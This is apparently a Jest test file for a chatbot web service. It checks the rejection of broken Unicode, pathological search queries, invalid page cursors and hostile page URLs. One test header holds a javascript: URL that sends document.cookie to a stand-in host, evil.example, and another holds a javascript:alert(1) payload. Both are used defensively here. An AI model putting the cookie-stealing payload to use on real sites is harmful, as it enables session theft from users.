import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import type request from 'supertest';
import { createChatBot, visitor } from '../support/chat-factories.js';
import { signedInAgent } from '../support/factories.js';
import { startTestApp, type TestApp } from '../support/test-app.js';

/**
 * The smaller holes of issue 25 ("Isolation"), each with its attack as the test: inputs that were
 * 500s, a page address the inbox would show as a link, passages posing as the owner, links the
 * model was fed, an upload refused while it still streams.
 */
let t: TestApp;
let owner: request.Agent;
let ownerId: number;

beforeAll(async () => {
  t = await startTestApp({ OFFLINE_MODEL_WORD_DELAY_MS: '0' });
  ({
    agent: owner,
    user: { id: ownerId },
  } = await signedInAgent(t));
});
afterAll(() => t.close());

async function countOf(sql: string, params: unknown[] = []): Promise<number> {
  const [row] = await t.dataSource.query<Array<{ n: number }>>(`SELECT count(*)::int AS n FROM ${sql}`, params);
  return row.n;
}

describe('inputs that answered 500', () => {
  it('refuses a visitor e-mail holding a lone surrogate with a sentence, storing nothing', async () => {
    const bot = await createChatBot(t, ownerId);
    const response = await t
      .http()
      .post('/api/chat')
      .set('Content-Type', 'application/json')
      .send(
        '{"botId":' + bot.id + ',"prompt":"When do you open?","visitor":{"name":"Ana","email":"a\\ud800@example.com"}}',
      );
    expect(response.status).toBe(400);
    expect(response.body).toEqual({
      error:
        'The field visitor.email contains broken Unicode (an unpaired surrogate), which cannot be stored. Remove it and try again.',
      code: 'INVALID_CHARACTERS',
    });
    expect(await countOf('conversations WHERE bot_id = $1', [bot.id])).toBe(0);
  });

  it('searches the inbox for 200 dashes (and other runs of negations) instead of failing', async () => {
    const bot = await createChatBot(t, ownerId);
    const chat = (prompt: string) =>
      t.http().post('/api/chat').set('X-Visitor-Id', visitor()).set('Authorization', `Bearer ${bot.apiKey}`).send({
        botId: bot.id,
        prompt,
      });
    expect((await chat('Can I get a refund for my parcel?')).status).toBe(200);
    expect((await chat('Do you ship abroad?')).status).toBe(200);
    const search = (q: string) => owner.get('/api/conversations').query({ botId: String(bot.id), q });

    for (const q of ['-'.repeat(200), '- '.repeat(100), '-&'.repeat(100), `${'-'.repeat(199)}`]) {
      const response = await search(q);
      expect(response.status).toBe(200);
      // Only negations: no word to find, so nothing matches (as for a query of common words).
      expect(response.body.conversations).toEqual([]);
    }
    // An odd run is one NOT, an even one none: the search still means what it says.
    const odd = await search(`refund ${'-'.repeat(41)}parcel`);
    expect(odd.status).toBe(200);
    expect(odd.body.conversations).toEqual([]);
    const even = await search(`refund ${'- '.repeat(40)}parcel`);
    expect(even.status).toBe(200);
    expect(even.body.conversations.map((c: { preview: string }) => c.preview)).toEqual([
      'Can I get a refund for my parcel?',
    ]);
    // The export reads the same filters.
    const exported = await owner.get('/api/conversations/export').query({ q: '-'.repeat(200) });
    expect(exported.status).toBe(200);
  });

  it('answers a visitor whose question is 1000 dashes from a bot with sources (the same parser)', async () => {
    const bot = await createChatBot(t, ownerId);
    const added = await owner
      .post(`/api/bots/${bot.id}/sources/text`)
      .set('Origin', t.origin)
      .send({ name: 'Refunds', text: 'Refunds take 30 days when the parcel is unopened.' });
    expect(added.status).toBe(201);
    const ask = (prompt: string) =>
      t
        .http()
        .post('/api/chat')
        .set('X-Visitor-Id', visitor())
        .set('Authorization', `Bearer ${bot.apiKey}`)
        .send({ botId: bot.id, prompt });
    const dashes = await ask('-'.repeat(1000));
    expect(dashes.status).toBe(200);
    expect(typeof dashes.body.message).toBe('string');
    // The search itself works (it used to fail, and the answer went on without the sources).
    const negated = await ask(`${'- '.repeat(60)}refund`);
    expect(negated.status).toBe(200);
    expect(negated.body.message).toContain('Refunds take 30 days');
  });
});

describe('owner routes read hostile query strings (found by the query-string fuzzing)', () => {
  it('refuses a page cursor in the year 0 (JavaScript has one, PostgreSQL has not: it was a 500)', async () => {
    const cursor = Buffer.from('0000-01-01T00:00:00.000000Z~1').toString('base64url');
    for (const path of ['/api/leads', '/api/conversations']) {
      const response = await owner.get(path).query({ cursor });
      expect(response.status).toBe(400);
      expect(response.body).toEqual({
        error: expect.stringMatching(/^This page link is not valid any more\./),
        code: 'INVALID_CURSOR',
      });
    }
  });
});

describe('the page a conversation is on (X-Page-Url)', () => {
  async function pageUrlOf(botId: number): Promise<Array<string | null>> {
    const rows = await t.dataSource.query<Array<{ page_url: string | null }>>(
      'SELECT page_url FROM conversations WHERE bot_id = $1 ORDER BY id',
      [botId],
    );
    return rows.map((row) => row.page_url);
  }

  it('never stores a javascript: page, and the message is still answered', async () => {
    const bot = await createChatBot(t, ownerId);
    const response = await t
      .http()
      .post('/api/chat')
      .set('X-Page-Url', 'javascript:fetch("https://evil.example/?c="+document.cookie)')
      .send({ botId: bot.id, prompt: 'When do you open?' });
    expect(response.status).toBe(200);
    expect(response.body.message).toEqual(expect.any(String));
    expect(await pageUrlOf(bot.id)).toEqual([null]);
    const listed = await owner.get('/api/conversations').query({ botId: String(bot.id) });
    expect(listed.body.conversations.map((c: { pageUrl: string | null }) => c.pageUrl)).toEqual([null]);
  });

  it("stores a domain-locked bot's page only when it is on that domain", async () => {
    const bot = await createChatBot(t, ownerId, { allowedDomain: 'shop.example' });
    const ask = (pageUrl: string) =>
      t
        .http()
        .post('/api/chat')
        .set('Authorization', `Bearer ${bot.apiKey}`)
        .set('X-Visitor-Id', visitor())
        .set('X-Page-Url', pageUrl)
        .send({ botId: bot.id, prompt: 'When do you open?' });
    // The owner's server (API key) passes no domain check, yet its page must not name another site.
    expect((await ask('https://evil.example/login')).status).toBe(200);
    expect((await ask('https://help.shop.example/faq')).status).toBe(200);
    expect(await pageUrlOf(bot.id)).toEqual([null, 'https://help.shop.example/faq']);
  });

  it('never stores a javascript: page with a lead either', async () => {
    const bot = await createChatBot(t, ownerId);
    const response = await t
      .http()
      .post('/api/chat/lead')
      .set('X-Page-Url', 'javascript:alert(1)')
      .send({ botId: bot.id, email: 'ana@example.com' });
    expect(response.status).toBe(201);
    expect(await pageUrlOf(bot.id)).toEqual([null]);
  });
});
